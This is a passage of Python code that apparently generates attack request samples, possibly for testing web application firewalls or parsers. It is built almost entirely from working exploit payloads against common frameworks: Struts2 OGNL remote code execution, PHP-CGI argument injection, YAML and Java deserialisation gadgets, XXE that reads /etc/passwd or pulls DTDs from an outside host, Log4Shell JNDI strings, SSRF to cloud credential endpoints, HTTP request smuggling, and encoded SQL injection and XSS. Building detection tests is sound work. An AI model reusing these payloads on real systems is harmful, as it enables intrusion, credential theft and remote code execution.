        uri = ep("rails", cat) + "?utf8=%E2%9C%93;" + f"{F(cat)}={qp(P(cat, 'rails'))};commit=Search"
        fget(f"query-semicolon-separator-{cat}", cat, "rails", uri)

    # 5. keys without '=' and php-cgi argument injection
    fget("query-key-only-sqli", "sqli", "php", "/news.php?" + q("12 UNION SELECT user,pass FROM admin-- -", safe=",*"))
    fpost("query-php-cgi-argv-php", "php", "php",
          "/index.php?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
          "<?php echo shell_exec('id'); ?>")
    fpost("query-php-cgi-argv-dash-php", "php", "php",
          "/cgi-bin/php-cgi?-d+allow_url_include%3Don+-d+safe_mode%3Doff+-d+auto_prepend_file%3Dphp%3A%2F%2Finput",
          "<?php system('cat /etc/passwd'); die(); ?>")

    # 6. NUL bytes
    fget("query-nul-byte-lfi", "lfi", "php", "/view.php?page=" + q("../../../../etc/passwd") + "%00.html")
    fpost("form-nul-byte-sqli", "sqli", "php", "/login.php", "user=admin%00" + qp("' OR 1=1-- -") + "&pass=x")
    fget("query-nul-byte-rfi", "rfi", "php", "/index.php?inc=" + q("http://203.0.113.66/r57.txt") + "%00")

    # 7. %uXXXX encoding (IIS / classic ASP.NET request decoding)
    for cat in ["sqli", "xss", "lfi", "rce"]:
        uri = ep("iis", cat) + "?" + F(cat) + "=" + u_encode(P(cat, "iis"))
        fget(f"query-percent-u-{cat}", cat, "iis", uri)

    # 8. overlong UTF-8 (Java/IIS legacy decoders)
    fget("query-overlong-utf8-lfi", "lfi", "spring", "/download?file=" + overlong("../../../../etc/passwd"))
    fget("query-overlong-utf8-lfi-win", "lfi", "iis", "/files/get.aspx?name=" + overlong("..\\..\\..\\windows\\win.ini"))
    fget("path-overlong-utf8-lfi", "lfi", "go", "/static/" + overlong("../../../etc/passwd").replace("%c0%af", "%c0%af"))

    # 9. double URL encoding (second decode in urldecode($_GET[...]), URLDecoder.decode, etc.)
    for cat, fw in [("lfi", "php"), ("xss", "php"), ("sqli", "spring"), ("ssrf", "spring"), ("rfi", "php")]:
        uri = ep(fw, cat) + "?" + F(cat) + "=" + q(q(P(cat, fw)))
        fget(f"query-double-encoded-{cat}", cat, fw, uri)

    # 10. '+' versus %20, tabs and newlines as whitespace
    fpost("form-plus-space-sqli", "sqli", "laravel", "/products/search",
          form(with_csrf("laravel", [("q", "x' UNION SELECT name, password FROM users WHERE '1'='1")]), plus=True))
    fpost("form-tab-newline-sqli", "sqli", "php", "/api/orders.php",
          "id=1%09UNION%0aSELECT%0d%0anull,concat(user,0x3a,password)%0bFROM%0cmysql.user--%20-")
    fpost("form-newline-rce", "rce", "flask", "/admin/tools/ping", "host=192.0.2.10%0acat%20/etc/passwd&count=1")

    # 11. fullwidth characters that NFKC / best-fit mapping turn into ASCII
    for cat, fw in [("xss", "flask"), ("lfi", "django"), ("sqli", "fastapi"), ("ssti", "flask")]:
        pay = {"xss": "<script>alert(document.domain)</script>", "lfi": "../../../etc/passwd",
               "sqli": "' OR 1=1-- ", "ssti": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}[cat]
        fpost(f"form-fullwidth-nfkc-{cat}", cat, fw, ep(fw, cat) + ("/" if fw == "django" else ""),
              form(with_csrf(fw, [(F(cat), fullwidth(pay))])))
    fget("query-worstfit-rce", "rce", "php",
         "/tools/convert.php?src=a.png&opts=" + q('\uff02 --output=/var/www/html/x.php --data-binary=@/etc/passwd \uff02'))

    # 12. IBM037 (EBCDIC) bodies selected by the charset parameter
    def ebc(pairs, codec="cp037"):
        return "&".join(pct_bytes(k.encode(codec)) + "=" + pct_bytes(v.encode(codec)) for k, v in pairs)
    for cat, fw in [("sqli", "iis"), ("xss", "iis"), ("lfi", "flask"), ("rce", "iis")]:
        body = ebc([(F(cat), P(cat, fw))])
        fpost(f"form-ibm037-{cat}", cat, fw, ep(fw, cat), body, ctype="application/x-www-form-urlencoded; charset=ibm037")
    for cat in ["sqli", "rce"]:
        body = F(cat).encode("cp037") + b"=" + P(cat, "iis").encode("cp037")
        send(f"form-ibm037-raw-bytes-{cat}", cat, "iis", "POST", ep("iis", cat),
             "application/x-www-form-urlencoded; charset=ibm037", body, raw_mode=True, xhr=False)
    fpost("form-ibm500-xss", "xss", "iis", "/Comments/Add.aspx",
          ebc([("comment", "<svg onload=alert(1)>")], "cp500"), ctype="application/x-www-form-urlencoded;charset=IBM500")

    # 13. the same name in query and body (PHP $_REQUEST, Spring merges both)
    fpost("form-query-body-merge-sqli", "sqli", "spring", "/api/orders?status=open", form([("status", P("sqli"))]))
    fpost("form-query-body-merge-xss", "xss", "php", "/guestbook.php?msg=hello", form([("msg", P("xss"))]))


def atk_ctype():
    # 1. no Content-Type at all (Go json.NewDecoder(r.Body), Django json.loads(request.body))
    for cat, fw in [("sqli", "go"), ("ssrf", "go"), ("xss", "django")]:
        send(f"ct-missing-{cat}", cat, fw, "POST", ep(fw, cat) + ("/" if fw == "django" else ""), None,
             jd({F(cat): P(cat, fw)}), ua=UA["go"] if fw == "go" else None)
    # 2. two Content-Type headers (Node and Go use the first)
    for cat, fw in [("sqli", "express"), ("nosqli", "express"), ("xss", "go")]:
        obj = P(cat) if cat == "nosqli" else {F(cat): P(cat, fw)}
        send(f"ct-duplicate-{cat}", cat, fw, "POST", ep(fw, cat), "application/json", jd(obj),
             extra=[("Content-Type", "application/x-www-form-urlencoded")])
    # 3. media type in odd case
    fpost("ct-odd-case-sqli", "sqli", "django", "/search/", form(with_csrf("django", [("q", P("sqli"))])),
          ctype="APPLICATION/X-WWW-FORM-URLENCODED; CHARSET=UTF-8")
    fpost("ct-odd-case-xss", "xss", "rails", "/comments", form(with_csrf("rails", [("comment[body]", P("xss"))])),
          ctype="Application/X-Www-Form-Urlencoded")
    # 4. JSON:API documents
    for cat in ["xss", "ssti"]:
        doc = {"data": {"type": "articles", "id": "17", "attributes": {"title": "Weekly update", "body": P(cat, "laravel")},
                        "relationships": {"author": {"data": {"type": "people", "id": "9"}}}}}
        send(f"ct-vnd-api-json-{cat}", cat, "laravel", "PATCH", "/api/v1/articles/17", "application/vnd.api+json", jd(doc),
             extra=[("Accept", "application/vnd.api+json")])
    fget("ct-vnd-api-filter-sqli", "sqli", "rails", "/api/articles?filter[author]=" + q(P("sqli")) + "&page[size]=10", xhr=True)
    # 5. JSON merge-patch
    for cat, fw in [("xss", "spring"), ("ssti", "spring"), ("sqli", "aspnet")]:
        send(f"ct-merge-patch-{cat}", cat, fw, "PATCH", "/api/users/me", "application/merge-patch+json",
             jd({"displayName": P(cat, fw), "phone": None}))
    # 6. JSON Patch
    send("ct-json-patch-xss", "xss", "aspnet", "PATCH", "/api/profile", "application/json-patch+json",
         jd([{"op": "replace", "path": "/bio", "value": P("xss")}, {"op": "test", "path": "/version", "value": 3}]))
    send("ct-json-patch-proto-generic", "generic", "express", "PATCH", "/api/config", "application/json-patch+json",
         jd([{"op": "add", "path": "/__proto__/isAdmin", "value": True}]))
    # 7. CSP / Reporting API reports (stored, rendered in a dashboard)
    for cat in ["xss", "sqli"]:
        rep = {"csp-report": {"document-uri": "https://www.example.com/checkout", "referrer": "",
                              "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
                              "original-policy": "default-src 'self'; report-uri /csp", "disposition": "enforce",
                              "blocked-uri": P(cat) if cat == "xss" else "inline",
                              "status-code": 200, "script-sample": "" if cat == "xss" else P(cat)}}
        send(f"ct-csp-report-{cat}", cat, "django", "POST", "/csp-report/", "application/csp-report", jd(rep))
    send("ct-reports-json-xss", "xss", "express", "POST", "/reports", "application/reports+json",
         jd([{"age": 12, "type": "csp-violation", "url": "https://api.example.com/",
              "body": {"blockedURL": "<img src=x onerror=alert(document.cookie)>", "disposition": "enforce"}}]))
    # 8. OGNL in the Content-Type header (Struts2 S2-045)
    ognl = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
            "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
            "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil."
            "getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd})."
            "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=("
            "@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils"
            "@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
    send("ct-ognl-content-type-java", "java", "intranet.example.com", "POST", "/struts2-showcase/fileupload/upload.action",
         ognl, "upload=x")
    # 9. GraphQL documents under application/graphql
    send("ct-graphql-sqli", "sqli", "express", "POST", "/graphql", "application/graphql",
         'query { products(where: "name LIKE \'%\' UNION SELECT password FROM users--") { id name } }')
    send("ct-graphql-ssrf", "ssrf", "express", "POST", "/graphql", "application/json",
         jd({"query": "mutation($u: String!) { importAvatar(url: $u) { ok } }",
             "variables": {"u": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"}}))
    # 10. YAML bodies (SnakeYAML / Psych deserialisation)
    send("ct-yaml-snakeyaml-java", "java", "spring", "POST", "/api/config/import", "application/x-yaml",
         '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.66/yaml-payload.jar"]]]]\n',
         api=True, ua=UA["curl"])
    send("ct-yaml-psych-rce", "rce", "rails", "POST", "/api/imports", "application/x-yaml",
         "---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
         "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n    io: &1 !ruby/object:Net::BufferedIO\n"
         "      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n         read: 0\n         header: \"abc\"\n"
         "      debug_output: &1 !ruby/object:Net::WriteAdapter\n         socket: &1 !ruby/object:Gem::RequestSet\n"
         "             sets: !ruby/object:Net::WriteAdapter\n                 socket: !ruby/module 'Kernel'\n"
         "                 method_id: :system\n             git_set: id\n         method_id: :resolve\n",
         api=True, ua=UA["faraday"])
    # 11. serialised objects in cookies / bodies sent with generic media types
    send("ct-octet-java-serialized", "java", "spring", "POST", "/invoker/JMXInvokerServlet", "application/x-java-serialized-object",
         base64.b64decode(JAVA_SER_B64), raw_mode=True, api=True, ua=UA["java"])
    fget("cookie-php-object-injection", "php", "php", "/dashboard.php", cookie=False,
         extra=[("Cookie", "PHPSESSID=" + tok(26, string.ascii_lowercase + string.digits) + "; cart=" + q(base64.b64encode(PHP_OBJ.encode()).decode()))])
    fget("cookie-java-serialized", "java", "spring", "/account", cookie=False,
         extra=[("Cookie", "JSESSIONID=" + hexs(32).upper() + "; prefs=" + JAVA_SER_B64)])


XXE_FILE = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
            '<order><id>1042</id><note>&xxe;</note></order>')
XXE_OOB = ('<?xml version="1.0"?>\n<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://203.0.113.66/evil.dtd"> %remote; %init; %trick;]>\n'
           '<data><sku>4</sku></data>')


def atk_xml():
    # 1. classic external entity, text/xml versus application/xml
    send("xml-xxe-text-xml", "xxe", "php", "POST", "/api/import.php", "text/xml", XXE_FILE, api=True, ua=UA["guzzle"])
    send("xml-xxe-application-xml", "xxe", "spring", "POST", "/api/orders", "application/xml",
         XXE_FILE.replace("file:///etc/passwd", "file:///proc/self/environ"), api=True, ua=UA["apache"])
    # JSON endpoint that also accepts XML (Jackson XML / JAX-RS content negotiation)
    send("xml-xxe-ct-switch-json-endpoint", "xxe", "spring", "POST", "/api/users", "application/xml",
         '<?xml version="1.0"?><!DOCTYPE user [<!ENTITY x SYSTEM "file:///etc/hostname">]><user><name>&x;</name><email>a@example.com</email></user>',
         api=True, ua=UA["okhttp"], accept="application/json")
    # 2. UTF-16 and ISO-8859-1 encoded documents
    for fw, path in [("spring", "/ws/orders"), ("php", "/soap/server.php")]:
        doc = XXE_FILE.replace('encoding="UTF-8"', 'encoding="UTF-16"')
        send(f"xml-xxe-utf16-{fw}", "xxe", fw, "POST", path, "application/xml", doc.encode("utf-16"),
             raw_mode=True, api=True, ua=UA["apache"])
    doc = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n<!DOCTYPE kunde [<!ENTITY x SYSTEM '
           '"php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n'
           '<kunde><name>M\u00fcller G\u00f6rli\u00df</name><notiz>&x;</notiz></kunde>')
    send("xml-xxe-iso-8859-1", "xxe", "php", "POST", "/crm/import.php", "text/xml; charset=ISO-8859-1",
         doc.encode("latin-1"), raw_mode=True, api=True, ua=UA["guzzle"])
    # 3. out-of-band parameter entities and local DTD re-use
    for fw, path in [("spring", "/api/stock"), ("aspnet", "/api/catalog/import"), ("flask", "/api/feeds")]:
        send(f"xml-xxe-oob-param-entity-{fw}", "xxe", fw, "POST", path, "application/xml", XXE_OOB,
             api=True, ua=UA["requests"] if fw == "flask" else UA["apache"])
    send("xml-xxe-local-dtd", "xxe", "spring", "POST", "/api/messages", "application/xml",
         '<?xml version="1.0"?>\n<!DOCTYPE message [\n<!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
         '<!ENTITY % ISOamso \'<!ENTITY &#x25; file SYSTEM "file:///etc/passwd"><!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; '
         'error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">&#x25;eval;&#x25;error;\'>\n%local_dtd;\n]>\n<message>hi</message>',
         api=True, ua=UA["apache"])
    # 4. XInclude
    for fw, path in [("flask", "/api/profile/import"), ("php", "/import.php")]:
        send(f"xml-xinclude-{fw}", "xxe", fw, "POST", path, "application/xml",
             '<profile xmlns:xi="http://www.w3.org/2001/XInclude"><name>a</name><bio>'
             '<xi:include parse="text" href="file:///etc/passwd"/></bio></profile>', api=True, ua=UA["requests"])
    # 5. entity expansion bomb
    ents = '<!ENTITY lol "lol">' + "".join(
        '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10) for i in range(1, 10))
    send("xml-billion-laughs", "xxe", "aspnet", "POST", "/Service.svc", "text/xml; charset=utf-8",
         f'<?xml version="1.0"?><!DOCTYPE lolz [{ents}]><lolz>&lol9;</lolz>', api=True, ua=UA["dotnet"])
    # 6. SOAP with a DOCTYPE
    send("xml-soap-xxe", "xxe", "aspnet", "POST", "/OrderService.asmx", "text/xml; charset=utf-8",
         '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>'
         '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder xmlns="http://tempuri.org/">'
         '<orderId>&xxe;</orderId></GetOrder></soap:Body></soap:Envelope>', api=True, ua=UA["dotnet"],
         extra=[("SOAPAction", '"http://tempuri.org/GetOrder"')])
    # 7. SVG upload with an external entity (Batik / Imagick rasterising)
    b = BOUNDARY["chrome"]()
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
           '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1">'
           '<text font-size="16" x="0" y="16">&xxe;</text></svg>')
    mp_post("xml-svg-upload-xxe", "xxe", "spring", "/api/avatar", f"multipart/form-data; boundary={b}",
            mp(b, [part("file", svg, filename="avatar.svg", ctype="image/svg+xml")]))
    # 8. SAMLResponse: base64 XML inside a form field
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://203.0.113.66/saml.dtd"> %x;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_' + hexs(32) + '" Version="2.0">'
            '<saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer></samlp:Response>')
    fpost("xml-saml-base64-xxe", "xxe", "rails", "/auth/saml/callback",
          form([("SAMLResponse", base64.b64encode(saml.encode()).decode()), ("RelayState", "/dashboard")]))
    # 9. RSS import fetching an internal URL through an entity
    send("xml-rss-entity-ssrf", "xxe", "django", "POST", "/feeds/import/", "application/rss+xml",
         '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>'
         '<rss version="2.0"><channel><title>&meta;</title><link>https://blog.example.org/</link></channel></rss>',
         api=True, ua=UA["requests"])

    # 10. CDATA sections splitting the payload (text is re-joined by the parser)
    send("xml-cdata-split-sqli", "sqli", "spring", "POST", "/api/search", "application/xml",
         "<search><term><![CDATA[1' UN]]><![CDATA[ION SEL]]><![CDATA[ECT password FROM users-- -]]></term></search>",
         api=True, ua=UA["apache"])
    send("xml-cdata-split-xss", "xss", "php", "POST", "/api/comments.php", "text/xml",
         "<comment><body><![CDATA[<scr]]><![CDATA[ipt>alert(document.domain)</scr]]><![CDATA[ipt>]]></body></comment>",
         api=True, ua=UA["guzzle"])
    send("xml-cdata-split-rce", "rce", "go", "POST", "/api/diagnostics/ping", "application/xml",
         "<job><host><![CDATA[192.0.2.1;]]><![CDATA[cat /etc/passwd]]></host></job>", api=True, ua=UA["go"])
    send("xml-cdata-split-ssti", "ssti", "flask", "POST", "/api/templates/preview", "application/xml",
         "<tpl><![CDATA[{{config.__class__]]><![CDATA[.__init__.__globals__['os'].popen('id').read()}}]]></tpl>",
         api=True, ua=UA["requests"])
    # 11. character references and comments inside the text
    send("xml-charref-sqli", "sqli", "go", "POST", "/api/orders/lookup", "application/xml",
         "<lookup><id>1&#x27; &#x55;NION &#x53;ELECT card_number,cvv FROM payments-- -</id></lookup>", api=True, ua=UA["go"])
    send("xml-charref-xss", "xss", "aspnet", "POST", "/api/reviews", "application/xml",
         "<Review><Text>&#60;img src=x onerror=alert(document.cookie)&#62;</Text><Stars>5</Stars></Review>", api=True, ua=UA["dotnet"])
    send("xml-comment-split-sqli", "sqli", "spring", "POST", "/api/invoices/search", "application/xml",
         "<q><customer>x' UNI<!-- -->ON SEL<!-- -->ECT username,password FROM users WHERE '1'='1</customer></q>",
         api=True, ua=UA["apache"])
    # 12. namespaces and processing instructions (SOAP)
    send("xml-soap-ns-pi-ldapi", "ldapi", "aspnet", "POST", "/AuthService.svc", "text/xml; charset=utf-8",
         '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
         '<s:Body><a:Login xmlns:a="urn:example:auth"><a:user>*)(uid=*))(|(uid=*</a:user><a:pass>x</a:pass></a:Login></s:Body></s:Envelope>',
         api=True, ua=UA["dotnet"], extra=[("SOAPAction", '"urn:example:auth/Login"')])
    send("xml-soap-ns-sqli", "sqli", "spring", "POST", "/ws/customers", "text/xml;charset=UTF-8",
         '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cus="http://example.com/customers">'
         "<soapenv:Header/><soapenv:Body><cus:findCustomer><cus:name>x' OR '1'='1' -- </cus:name></cus:findCustomer>"
         "</soapenv:Body></soapenv:Envelope>", api=True, ua=UA["apache"], extra=[("SOAPAction", '""')])
    send("xml-xmlrpc-pingback-ssrf", "ssrf", "php", "POST", "/xmlrpc.php", "text/xml",
         "<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params>"
         "<param><value><string>http://127.0.0.1:6379/</string></value></param>"
         "<param><value><string>https://www.example.com/2024/05/hello-world/</string></value></param></params></methodCall>",
         api=True, ua=UA["guzzle"])
    # 13. XSLT injection
    send("xml-xslt-php-function", "php", "php", "POST", "/reports/transform.php", "application/xslt+xml",
         '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
         '<xsl:template match="/"><xsl:value-of select="php:function(\'shell_exec\',\'id\')"/></xsl:template></xsl:stylesheet>',
         api=True, ua=UA["guzzle"])
    send("xml-xslt-msxsl-script-rce", "rce", "aspnet", "POST", "/api/reports/xslt", "application/xml",
         '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" '
         'xmlns:user="urn:my-scripts"><msxsl:script language="C#" implements-prefix="user"><![CDATA[public string run(){'
         'System.Diagnostics.Process.Start("cmd.exe","/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt"); return "ok";}]]></msxsl:script>'
         '<xsl:template match="/"><xsl:value-of select="user:run()"/></xsl:template></xsl:stylesheet>', api=True, ua=UA["dotnet"])
    # 14. XPath injection in an XML-backed login
    send("xml-xpath-injection-generic", "generic", "aspnet", "POST", "/Account/Login", FORM_CT,
         form([("username", "' or name()='username' or 'x'='y"), ("password", "' or '1'='1")]), xhr=False)


def raw_send(slug, cat, host, method, target, headers, body=b"", version="HTTP/1.1", ua=None):
    h = ([("Host", host)] if host else []) + [("User-Agent", ua or pick(BROWSER_UA)), ("Accept", "*/*")] + list(headers)
    emit_raw(slug, cat, raw(method, target, h, body, version=version))


def atk_http():
    # 1. chunked bodies with chunk extensions, keywords split across chunks
    chunk_cases = [
        ("sqli", "php", "/products.php", FORM_CT, ["id=1%27+UNI", "ON+SEL", "ECT+username%2Cpassword+FROM+users--+-"]),
        ("xss", "express", "/api/comments", "application/json", ['{"comment":"<scr', 'ipt>alert(document.', 'domain)</script>"}']),
        ("rce", "flask", "/admin/tools/ping", FORM_CT, ["host=192.0.2.1%3B", "cat+%2Fetc%2F", "passwd"]),
        ("ssti", "flask", "/preview", FORM_CT, ["name=%7B%7Bcycler.__init__.", "__globals__.os.popen(%27id%27)", ".read()%7D%7D"]),
        ("lfi", "spring", "/api/files/view", FORM_CT, ["path=..%2F..%2F..%2F", "..%2Fetc%2Fpas", "swd"]),
        ("java", "spring", "/api/v2/events", "application/json", ['{"type":"login","user":"${jn', 'di:ldap://203.0.113.66', ':1389/a}"}']),
    ]
    exts = [";ext=1", ';signature="' + hexs(64) + '"', ";x", ";" + "a" * 200 + "=b"]
    for i, (cat, fw, path, ct, pieces) in enumerate(chunk_cases):
        body = chunked(pieces, ext=[exts[i % len(exts)], exts[(i + 1) % len(exts)]])
        raw_send(f"chunked-extensions-{cat}", cat, FW[fw], "POST", path,
                 [("Content-Type", ct), ("Transfer-Encoding", "chunked"), ("Cookie", cookie_for(fw))], body)
    raw_send("chunked-uppercase-te-xss", "xss", FW["go"], "POST", "/api/posts",
             [("Content-Type", "application/json"), ("TRANSFER-ENCODING", "CHUNKED")],
             chunked(['{"title":"hi","body":"<svg/onl', 'oad=alert(1)>"}']), ua=UA["go"])
    # 2. gzip-compressed request bodies (ASP.NET Core RequestDecompression, Go middleware)
    for cat, fw, path, obj in [("sqli", "aspnet", "/api/orders/search", {"customer": P("sqli")}),
                               ("xss", "go", "/api/posts", {"body": P("xss")})]:
        data = gzip.compress(jd(obj).encode(), mtime=0)
        raw_send(f"gzip-body-{cat}", cat, FW[fw], "POST", path,
                 [("Content-Type", "application/json"), ("Content-Encoding", "gzip"), ("Content-Length", None)], data,
                 ua=UA["dotnet"] if fw == "aspnet" else UA["go"])

    # 3. method overrides
    send("method-override-header-xss", "xss", "express", "POST", "/api/users/42", "application/json",
         jd({"bio": P("xss")}), extra=[("X-HTTP-Method-Override", "PUT")])
    send("method-override-x-http-method-sqli", "sqli", "aspnet", "POST", "/odata/Orders(17)", "application/json",
         jd({"ShipName": P("sqli")}), extra=[("X-HTTP-Method", "MERGE")], ua=UA["dotnet"])
    fpost("method-override-param-laravel-sqli", "sqli", "laravel", "/orders/17",
          form(with_csrf("laravel", [("_method", "PUT"), ("status", "shipped"), ("note", P("sqli"))])))
    fpost("method-override-param-symfony-ssti", "ssti", "symfony", "/profile",
          form(with_csrf("symfony", [("_method", "PATCH"), ("signature", P("ssti", "symfony"))])))
    fpost("method-override-param-rails-xss", "xss", "rails", "/posts/9",
          form(with_csrf("rails", [("_method", "patch"), ("post[title]", P("xss"))])))
    fpost("method-override-query-rce", "rce", "express", "/api/backups?_method=PUT", form([("target", P("rce"))]))
    send("get-with-json-body-sqli", "sqli", "go", "GET", "/api/search", "application/json",
         jd({"query": P("sqli"), "size": 20}), ua=UA["go"])

    # 4. HTTP/1.0 without Host
    for cat, fw, target in [("sqli", "php", "/search.php?q=" + q(P("sqli"))),
                            ("xss", "php", "/index.php?name=" + q(P("xss"))),
                            ("lfi", "iis", "/download.aspx?f=" + q(P("lfi")))]:
        raw_send(f"http10-no-host-{cat}", cat, None, "GET", target, [("Connection", "close")], version="HTTP/1.0")

    # 5. absolute-form request targets
    emit("absolute-form-sqli", "sqli", "GET", "http://www.example.com/search.php?q=" + q(P("sqli")),
         bh("www.example.com", fw="php"))
    emit("absolute-form-routing-ssrf", "ssrf", "GET", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
         [["Host", "www.example.com"], ["User-Agent", UA["curl"]], ["Accept", "*/*"]])
    emit("absolute-form-routing-ssrf", "ssrf", "GET", "http://127.0.0.1:8080/manager/html",
         [["Host", "portal.example.net"], ["User-Agent", UA["curl"]], ["Accept", "*/*"]])

    # 6. path parameters: ;jsessionid, matrix variables, Tomcat "..;/"
    fget("path-param-dotdot-semicolon-lfi", "lfi", "spring", "/static/..;/..;/WEB-INF/web.xml")
    fget("path-param-dotdot-semicolon-lfi", "lfi", "spring", "/app/..;/manager/html")
    fget("path-param-jsessionid-lfi", "lfi", "spring", "/docs;jsessionid=" + hexs(32).upper() + "/../WEB-INF/classes/application.properties")
    fget("path-param-actuator-java", "java", "spring", "/actuator;/env", xhr=True)
    fget("path-param-jolokia-java", "java", "spring",
         "/jolokia;/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/203.0.113.66!/logback.xml")
    fget("path-matrix-variable-sqli", "sqli", "spring", "/api/cars;color=red%27%20OR%20%271%27=%271;year=2020")
    # 7. backslashes and encoded slashes in the path
    fget("path-backslash-encoded-lfi", "lfi", "iis", "/static/..%5c..%5c..%5c..%5cwindows%5cwin.ini")
    fget("path-encoded-slash-lfi", "lfi", "express", "/download/..%2f..%2f..%2f..%2fetc%2fpasswd")
    fget("path-encoded-dots-lfi", "lfi", "spring", "/files/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
    fget("path-raw-backslash-lfi", "lfi", "aspnet", "/assets/..\\..\\..\\..\\appsettings.json")
    fget("path-double-encoded-slash-lfi", "lfi", "go", "/api/files/..%252f..%252f..%252fetc%252fpasswd", ua=UA["curl"])
    # 8. case variations
    emit("header-name-case-sqli", "sqli", "POST", "/api/products",
         [["host", FW["express"]], ["user-agent", UA["axios"]], ["CONTENT-TYPE", "APPLICATION/JSON"], ["accept", "*/*"]],
         jd({"category": P("sqli")}))
    fget("path-case-variation-lfi", "lfi", "spring", "/static/..;/WeB-InF/web.xml")

    # 9. request smuggling framings (every framing below is complete and exact)
    smug = b"GET /admin/users/delete?id=1 HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n"
    te_variants = [
        ("cl-te", [("Content-Length", None), ("Transfer-Encoding", "chunked")]),
        ("te-xchunked", [("Content-Length", None), ("Transfer-Encoding", "xchunked")]),
        ("te-tab", [("Content-Length", None), ("Transfer-Encoding", "\tchunked")]),
        ("te-duplicate", [("Transfer-Encoding", "chunked"), ("Content-Length", None), ("Transfer-Encoding", "identity")]),
        ("te-obs-fold", [("Content-Length", None), ("X-Trace", "a1"), (" Transfer-Encoding", "chunked")]),
    ]
    for name, hs in te_variants:
        body = chunked([b"q=1"]) + smug
        raw_send(f"smuggling-{name}-protocol", "protocol", FW["php"], "POST", "/search.php",
                 [("Content-Type", FORM_CT)] + hs, body)
    raw_send("smuggling-cl0-static-protocol", "protocol", FW["django"], "POST", "/static/css/site.css",
             [("Content-Type", FORM_CT), ("Content-Length", None)],
             b"GET /admin/ HTTP/1.1\r\nHost: www.example.org\r\nFoo: x")

    # 10. payloads in headers and cookies read by the application
    emit("header-xff-sqli", "sqli", "GET", "/index.php",
         bh(FW["php"], fw="php", extra=[("X-Forwarded-For", "203.0.113.4', (SELECT SLEEP(5)))-- -")]))
    emit("header-referer-xss", "xss", "GET", "/pricing",
         [x for x in bh(FW["django"], fw="django") if x[0] != "Referer"]
         + [["Referer", "https://www.example.org/\"><script>alert(document.domain)</script>"]])
    emit("header-user-agent-java", "java", "GET", "/login",
         [["Host", FW["spring"]], ["User-Agent", "${jndi:ldap://203.0.113.66:1389/ua}"], ["Accept", "*/*"]])
    emit("header-x-api-version-java", "java", "GET", "/api/v1/health",
         [["Host", FW["spring"]], ["User-Agent", UA["curl"]], ["Accept", "*/*"], ["X-Api-Version", "${${lower:jn}di:dns://203.0.113.66/v}"]])
    emit("header-accept-language-lfi", "lfi", "GET", "/index.php",
         bh(FW["php"], fw="php", cookie=False) + [["Cookie", "PHPSESSID=" + tok(26) + "; lang=../../../../../../etc/passwd%00"]])
    emit("cookie-sqli", "sqli", "GET", "/account.php",
         [["Host", FW["php"]], ["User-Agent", pick(BROWSER_UA)], ["Accept", "text/html"],
          ["Cookie", "PHPSESSID=" + tok(26, string.ascii_lowercase) + "; userid=1' AND (SELECT 1 FROM (SELECT SLEEP(5))x)-- -"]])
    emit("header-x-original-url-generic", "generic", "GET", "/",
